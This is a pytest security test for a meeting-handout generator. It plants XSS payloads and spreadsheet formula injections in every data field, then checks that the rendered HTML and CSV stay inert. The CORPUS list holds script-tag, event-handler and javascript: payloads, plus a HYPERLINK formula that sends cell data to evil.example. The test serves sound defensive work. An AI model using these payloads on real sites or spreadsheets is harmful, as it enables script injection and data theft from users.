"""Hostile text in every field that reaches a handout stays text.

A corpus of script tags, event handlers, attribute break-outs, ``javascript:`` links
and spreadsheet formulas is placed in the data (carrier, warehouse, region, channel,
after-sales reason, order ids, exception codes), in issues (command line and a
department file), in the minutes (summary, plan, decisions, action items, feedback)
and in the params texts (company, meeting title, place, people). The real notebooks
run through papermill; every HTML file written is then parsed: no element or
attribute of the corpus may appear, no ``on*`` attribute, no ``javascript:`` URL, and
every page carries the Content-Security-Policy. Every CSV cell a spreadsheet would
evaluate is neutralised.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml

from meetinglib.cli import main
from meetinglib.core.csp import POLICY
from meetinglib.core.weeks import IsoWeek
from tests.conftest import ROOT, SAMPLE_WEEK

pytestmark = pytest.mark.slow

# Each string carries the marker "xss" in what it would inject (an element, an attribute),
# so any markup that survives unescaped is found by name.
CORPUS = (
    "<script>alert('xss1')</script>",
    '"><svg onload=alert(2) data-xss=2>',
    "'><img src=x onerror=alert(3) data-xss=3>",
    '<a href="javascript:alert(4)" data-xss=4>x</a>',
    "</title></style></textarea><iframe srcdoc='<script>alert(5)</script>' data-xss=5>",
    "<xss-probe onmouseover=alert(6)>",
    "{{7*7}}<!-- <b data-xss=7>",
    '<math><mi xlink:href="javascript:alert(8)" data-xss=8>x</mi></math>',
    "<style>@import url(http://evil.example/xss.css)</style>",
    '=HYPERLINK("http://evil.example/?x="&A1;"x")',
    "+SUM(A1)<i data-xss=11>",
    "@SUM(1+1)",
    "-2+3<u data-xss=13>",
)
# Segments split on ',' and ';': these keep the break-outs without those characters.
SEGMENT_HOSTILE = 'x"><img src=x onerror=alert(20) data-xss=20>'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
DANGEROUS_TAGS = {"script", "iframe", "svg", "math", "object", "embed", "xss-probe", "base", "form"}


def hostile(i: int, keep: str = "") -> str:
    """A corpus string (by index, cycling), followed by ``keep`` to keep values distinct."""
    return f"{CORPUS[i % len(CORPUS)]} {keep}".rstrip()


class _Elements(HTMLParser):
    """Every element and attribute of a page, and the text of its <style> elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.styles: list[str] = []
        self._in_style = False
        self.head: list[str] | None = None  # elements of <head> before the policy
        self.csp: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        a = dict(attrs)
        if tag == "head":
            self.head = []
        elif self.head is not None and self.csp is None:
            if (a.get("http-equiv") or "").lower() == "content-security-policy":
                self.csp = a.get("content")
            else:
                self.head.append(tag)
        self._in_style = tag == "style"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


def html_problems(path: Path) -> list[str]:
    """What in the page an attacker's text would have put there (empty: nothing)."""
    page = _Elements()
    page.feed(path.read_text(encoding="utf-8"))
    problems = []
    if page.csp != POLICY:
        problems.append(f"Content-Security-Policy in <head> is {page.csp!r}, not {POLICY!r}")
    # The policy governs what follows it: only meta and title may come before.
    if set(page.head or []) - {"meta", "title"}:
        problems.append(f"<head> has {page.head} before the Content-Security-Policy")
    for tag, attrs in page.tags:
        if tag in DANGEROUS_TAGS:
            problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on") or "xss" in name:
                problems.append(f"<{tag} {name}=...> attribute")
            v = re.sub(r"[\s\x00-\x1f]", "", (value or "")).lower()
            link = name in ("href", "src", "xlink:href", "action", "formaction", "srcdoc", "data")
            if link and v.startswith(("javascript:", "vbscript:", "data:text")):
                problems.append(f"<{tag} {name}={value!r}>")
    for css in page.styles:
        if "evil.example" in css or "@import" in css:
            problems.append(f"<style> with {css[:60]!r}")
    return problems


def csv_problems(path: Path) -> list[str]:
    """Cells of the CSV file a spreadsheet would evaluate as a formula."""
    problems = []
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for r, row in enumerate(csv.reader(fh), start=1):
            for c, cell in enumerate(row):
                if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
                    problems.append(f"{path.name} row {r} column {c + 1}: {cell[:40]!r}")
    return problems


def _poison_data(source: Path, target: Path) -> None:
    """Copy the sample with hostile text in every free-text column and id."""
    shutil.copytree(source, target)
    ids: dict[str, str] = {}

    def order_id(v: object) -> object:
        if not isinstance(v, str):
            return v
        if v not in ids:
            # A few ids (not all: ids must stay distinct and the run fast).
            ids[v] = hostile(len(ids), v) if len(ids) % 7 == 0 else v
        return ids[v]

    for file in sorted(target.glob("*.parquet")):
        frame = pd.read_parquet(file)
        if "order_id" in frame:
            frame["order_id"] = frame["order_id"].astype(object).map(order_id)
        for col in ("channel", "warehouse", "carrier", "region", "reason"):
            if col in frame:
                values = frame[col].astype(object)
                names = {
                    v: hostile(i + 1, str(v))
                    for i, v in enumerate(sorted(values.dropna().unique()))
                }
                frame[col] = values.map(lambda v, n=names: n.get(v, v))
        if file.stem == "orders":
            # Unknown exception codes are set aside: they reach the quarantine CSV and the
            # data-quality section. 8 of ~6,000 rows stays under the quarantine limit.
            codes = frame["exception_code"].astype(object)
            for k, i in enumerate(frame.index[::750][:8]):
                codes.loc[i] = CORPUS[k]
            frame["exception_code"] = codes
        frame.to_parquet(file, index=False)


def _params(folder: Path, data: Path) -> Path:
    people = [
        {"name": f"Wang {hostile(i)}", "email": f"p{i}@shop.example", "department": d}
        for i, d in enumerate(["operations", "customer_service", "logistics", "finance", "it"])
    ]
    doc = {
        "company": hostile(0, "Shop"),
        "timezone": "Asia/Shanghai",
        "history_weeks": 3,
        "source": {"kind": "folder", "path": str(data)},
        "notebooks_dir": str(ROOT / "meetinglib" / "notebooks"),
        "output_dir": str(folder / "outputs"),
        "store": {"path": str(folder / "meeting.db")},
        "notebooks": ["data_report", "issue_triage"],
        "quality": {"max_quarantine_share": 0.05},
        "meeting": {
            "title": hostile(1, "review"),
            "place": hostile(2, "room"),
            "online_link": 'https://meet.example/x?a="><script>alert(30)</script>',
            "organizer": {"name": hostile(3), "email": "org@shop.example", "department": "it"},
            "attendees": people,
        },
    }
    path = folder / "params.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    return path


def _minutes(folder: Path, week: IsoWeek) -> Path:
    held = week.next().monday
    doc = {
        "week": str(week),
        "summary": hostile(4, "summary"),
        "plan": [hostile(5), hostile(9)],
        "attendance": [{"email": "org@shop.example", "status": "present"}],
        "decisions": [{"ref": "D1", "text": hostile(6), "department": "it"}],
        "actions": [
            {
                "description": hostile(i, "action"),
                "owner": hostile(3),
                "department": "it",
                "due": str(held + dt.timedelta(days=3)),
                **({"decision": "D1"} if i == 7 else {}),
            }
            for i in (7, 9, 10, 11, 12)
        ],
        "feedback": [{"email": "org@shop.example", "rating": 3, "comment": hostile(8)}],
    }
    path = folder / "minutes.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    return path


def _issue_file(folder: Path) -> Path:
    path = folder / "issues-logistics.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["title", "description", "severity", "segment", "first_seen", "submitter"])
        for i in range(len(CORPUS)):
            w.writerow(
                [
                    hostile(i, f"t{i}"),
                    hostile(i + 3),
                    "high",
                    f"carrier={SEGMENT_HOSTILE}",
                    "",
                    hostile(i + 5),
                ]
            )
    return path


def _ok(argv: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    code = main(argv)
    out, err = capsys.readouterr()
    assert code == 0, f"{argv[:2]} exit {code}: {err[-2000:]}"
    return out


def test_hostile_text_everywhere_stays_text(tmp_path, sample, capsys):
    data = tmp_path / "data"
    _poison_data(Path(sample.folder), data)
    params = _params(tmp_path, data)
    week = IsoWeek.parse(SAMPLE_WEEK)
    p = ["--params", str(params)]
    _ok(
        [
            "issues",
            "import",
            str(_issue_file(tmp_path)),
            "--dept",
            "logistics",
            "--week",
            SAMPLE_WEEK,
            *p,
        ],
        capsys,
    )
    _ok(
        [
            "issues",
            "add",
            "--dept",
            "it",
            "--week",
            SAMPLE_WEEK,
            "--title",
            hostile(1, "cli"),
            "--severity",
            "high",
            "--description",
            hostile(2),
            "--segment",
            f"carrier={SEGMENT_HOSTILE}",
            "--submitter",
            hostile(4),
            *p,
        ],
        capsys,
    )
    _ok(["minutes", "record", str(_minutes(tmp_path, week)), "--week", SAMPLE_WEEK, *p], capsys)
    _ok(["agenda", "--week", SAMPLE_WEEK, *p], capsys)
    _ok(["run", "--week", SAMPLE_WEEK, *p], capsys)

    week_dir = tmp_path / "outputs" / SAMPLE_WEEK
    pages = sorted(week_dir.rglob("*.html"))
    names = {x.name for x in pages}
    assert {"data_report.html", "issue_triage.html", "minutes.html", "index.html"} <= names
    assert {"agenda.html", "notice.html"} <= names
    problems = {x.name: html_problems(x) for x in pages}
    assert {k: v for k, v in problems.items() if v} == {}

    # The corpus did reach the handouts (as text): the test would notice markup if it leaked.
    report = (week_dir / "data_report.html").read_text(encoding="utf-8")
    triage = (week_dir / "issue_triage.html").read_text(encoding="utf-8")
    minutes = (week_dir / "minutes.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in report or "&lt;svg" in report
    assert "onerror=alert(20)" in triage
    assert "&lt;" in minutes and "alert(" in minutes

    tables = sorted(week_dir.rglob("*.csv"))
    assert {"kpis.csv", "issues.csv", "action_items.csv"} <= {x.name for x in tables}
    assert [q for x in tables for q in csv_problems(x)] == []

    # The command-line CSV exports too.
    out = _ok(["issues", "list", "--format", "csv", "--week", SAMPLE_WEEK, *p], capsys)
    listed = tmp_path / "issues-list.csv"
    listed.write_text(out, encoding="utf-8")
    assert csv_problems(listed) == []
    _ok(["store", "export", "--out", str(tmp_path / "export"), *p], capsys)
    exported = sorted((tmp_path / "export").rglob("*.csv"))
    assert exported
    assert [q for x in exported for q in csv_problems(x)] == []
